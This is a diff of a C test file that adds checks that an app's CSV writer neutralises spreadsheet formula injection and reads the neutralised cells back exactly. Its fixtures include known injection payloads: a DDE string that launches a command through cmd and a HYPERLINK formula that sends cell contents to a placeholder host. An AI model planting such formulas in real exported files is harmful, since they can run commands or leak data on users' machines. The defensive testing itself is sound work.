@@ -322,12 +322,104 @@ test_write (void)
     "\xEF\xBB\xBF"
     "编号,标题,描述\r\n"
     "2026-0001,\"漏水, 严重\",\"他说\"\"马上来\"\"\n第二行\"\r\n"
-    "=1+2,,\r\n";
+    "'=1+2,,\r\n";
   gsize len;
   g_autofree char *data = write_rows (fields, 3, 3, &len);
 
-  /* Quoted only where it must be; a formula is data and stays as it is. */
+  /* Quoted only where it must be; a formula is not run (below). */
   g_assert_cmpmem (data, len, expected, strlen (expected));
+}
+
+/* OWASP's rule on CSV injection: a text cell that begins with "=", "+",
+ * "-", "@", a tab or a carriage return gets a "'" before it, so Excel and
+ * WPS show it instead of running it. */
+static void
+test_write_formulas (void)
+{
+  const char *fields[] = {
+    "姓名", "描述", "地址",
+    "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
+    "-2+3", "\t=1", "\r=1",
+    "'=1", "'普通", "王=芳",
+  };
+  const char *expected =
+    "\xEF\xBB\xBF"
+    "姓名,描述,地址\r\n"
+    "\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"点我\"\")\",'+cmd|' /C calc'!A0,'@SUM(1+1)\r\n"
+    "'-2+3,'\t=1,\"'\r=1\"\r\n"
+    "''=1,'普通,王=芳\r\n";
+  gsize len;
+  g_autofree char *data = write_rows (fields, 3, 4, &len);
+
+  g_assert_cmpmem (data, len, expected, strlen (expected));
+}
+
+/* Numbers the app writes itself are not text a person typed: "-3" stays a
+ * number. */
+static void
+test_write_numbers (void)
+{
+  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
+  g_autoptr(LinliCsvWriter) writer = linli_csv_writer_new (out);
+  g_autoptr(GError) error = NULL;
+  const char *expected = "\xEF\xBB\xBF-3,-1.5,2026-01-05 09:30\r\n'-3\r\n";
+
+  linli_csv_writer_add_number (writer, "-3");
+  linli_csv_writer_add_number (writer, "-1.5");
+  linli_csv_writer_add_number (writer, "2026-01-05 09:30");
+  g_assert_true (linli_csv_writer_end_row (writer, NULL, &error));
+  linli_csv_writer_add (writer, "-3");
+  g_assert_true (linli_csv_writer_finish (writer, NULL, &error));
+  g_assert_no_error (error);
+  g_assert_true (g_output_stream_close (out, NULL, &error));
+  g_assert_cmpmem (g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (out)),
+                   g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (out)),
+                   expected, strlen (expected));
+}
+
+/* What the writer neutralised reads back as it was, and nothing else
+ * loses a "'": the round trip is exact. */
+static void
+test_formulas_round_trip (void)
+{
+  const char *fields[] = {
+    "=标题", "'", "''",
+    "=1+2", "+86 138", "-",
+    "@", "\t缩进", "\n换行",
+    "'=1", "''@x", "'+",
+    "'普通", "'", "'-'",
+    "王=芳", "a'=b", "==",
+    "'\t", "'''", "-'-",
+    "'\n", "'''\n'", "@'",
+  };
+  g_autoptr(LinliCsvTable) table = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *data = NULL;
+  gsize len;
+  guint n_rows = G_N_ELEMENTS (fields) / 3;
+
+  data = write_rows (fields, 3, n_rows, &len);
+  table = read_text (data, (gssize) len, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, n_rows - 1);
+  for (guint c = 0; c < 3; c++)
+    g_assert_cmpstr (linli_csv_table_get_header (table, c), ==, fields[c]);
+  for (guint r = 1; r < n_rows; r++)
+    for (guint c = 0; c < 3; c++)
+      g_assert_cmpstr (linli_csv_table_get_cell (table, r - 1, c), ==, fields[r * 3 + c]);
+}
+
+/* A file from elsewhere: "'" comes off only before a formula character,
+ * where the writer puts it. */
+static void
+test_read_formula_prefix (void)
+{
+  g_autoptr(LinliCsvTable) table = read_ok ("a,b,c,d\n'=1,'abc,'@x,\"'-1\"\n'',''+1,'\t,x'=1\n");
+  const char *row0[] = { "=1", "'abc", "@x", "-1" };
+  const char *row1[] = { "''", "'+1", "\t", "x'=1" };
+
+  assert_row (table, 0, 2, row0);
+  assert_row (table, 1, 3, row1);
 }
 
 static void
@@ -431,6 +523,10 @@ main (int   argc,
   g_test_add_func ("/csv/read/empty", test_empty);
   g_test_add_func ("/csv/write/quoting", test_write);
   g_test_add_func ("/csv/write/round-trip", test_write_read_round_trip);
+  g_test_add_func ("/csv/write/formulas", test_write_formulas);
+  g_test_add_func ("/csv/write/numbers", test_write_numbers);
+  g_test_add_func ("/csv/write/formulas-round-trip", test_formulas_round_trip);
+  g_test_add_func ("/csv/read/formula-prefix", test_read_formula_prefix);
   g_test_add_func ("/mask/phone", test_mask_phone);
   g_test_add_func ("/mask/name", test_mask_name);
 
